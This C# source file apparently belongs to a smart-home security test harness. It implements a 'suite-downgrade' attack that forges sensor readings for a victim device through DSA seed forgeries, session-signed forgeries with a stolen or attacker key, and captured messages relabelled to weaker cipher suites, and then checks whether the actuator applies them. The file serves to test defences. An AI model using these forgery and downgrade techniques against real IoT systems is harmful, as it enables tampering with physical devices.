using SmartHome.Contracts;
using SmartHome.Messaging;

namespace SmartHome.Attacker;

/// <summary>
/// suite-downgrade: readings for the victim device in a suite weaker than the one it is pinned to, at every level with the
/// level's keys (<see cref="SuiteDowngradePayloads"/>): a seed forgery (DSA), a session-signed forgery (announcement signed
/// with the level's Ed25519 key, then data GCM-valid under it), and captured messages relabelled to another suite with
/// fresh counters. Judged on the actuator: success = a reading applied.
/// </summary>
internal sealed class SuiteDowngradeAttack : IAttack
{
    public static SuiteDowngradeAttack Instance { get; } = new();

    public string Name => Attacks.SuiteDowngrade;

    public bool NeedsCaptures => true;

    public async Task<AttackResult> RunAsync(AttackContext context, AttackLevel level, AttackInput input, CancellationToken ct)
    {
        var n = input.Attempts;
        var victim = Targets.VictimDevice;
        var dataTopic = Topics.Readings(victim);
        var keyTopic = Topics.Keys(victim);
        var captures = input.Captures.Where(c => c.Topic == dataTopic || c.Topic == keyTopic).ToList();
        var attempts = new List<PlannedAttempt>(n);
        for (var i = 0; i < n; i++)
        {
            var id = context.NewAttemptId(Attacks.SuiteDowngrade);
            var reading = Payloads.ForgedReading(victim, 15.0, DeviceReading.NowMicros(TimeProvider.System)).ToUtf8Json();
            if (!context.Secure)
            {
                // No suites: the weakest possible "suite", plaintext, is what that pipeline takes.
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(dataTopic, reading, id)]));
                continue;
            }

            var counter = ForgeryValues.FreshCounter(2 * i);
            var now = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
            var variant = (SuiteDowngradePayloads.Variant)(i % 3);
            if (variant == SuiteDowngradePayloads.Variant.RelabelledCapture && captures.Count > 0
                && SuiteDowngradePayloads.Relabel(captures[i % captures.Count].Payload, counter, now) is { } relabelled)
            {
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(captures[i % captures.Count].Topic, relabelled, id)]));
            }
            else if (variant == SuiteDowngradePayloads.Variant.SeedForgery)
            {
                attempts.Add(new PlannedAttempt(id,
                    [new PlannedMessage(dataTopic, SuiteDowngradePayloads.SeedForgery(victim, counter, now, reading, context.Keys.SigningKey(level)), id)]));
            }
            else
            {
                var (announcement, data) = SuiteDowngradePayloads.SessionSignedForgery(victim, counter, now, reading, context.Keys.SuiteSigningKey(level),
                    context.Keys.ActuatorAgreementKey);
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(keyTopic, announcement, id + ":key"), new PlannedMessage(dataTopic, data, id)]));
            }
        }

        await using var session = await context.ConnectAsync(level, "suitedown", ct).ConfigureAwait(false);
        var notes = context.Secure
            ? $"readings for {Targets.VictimDevice} in a suite other than its pinned one: seed forgeries (DSA), session-signed forgeries (announcement signed with {(level == AttackLevel.Insider ? "the stolen plug-garage Ed25519 key" : "the attacker's Ed25519 key")}, then GCM-valid data), and captured messages relabelled to another suite with fresh counters."
            : "the insecure pipeline has no suites: a plaintext reading (the weakest protection there is) is accepted as is.";
        return await context.Judge.PublishAndJudgeAsync(Attacks.SuiteDowngrade, level, session, attempts, notes, ct).ConfigureAwait(false);
    }
}
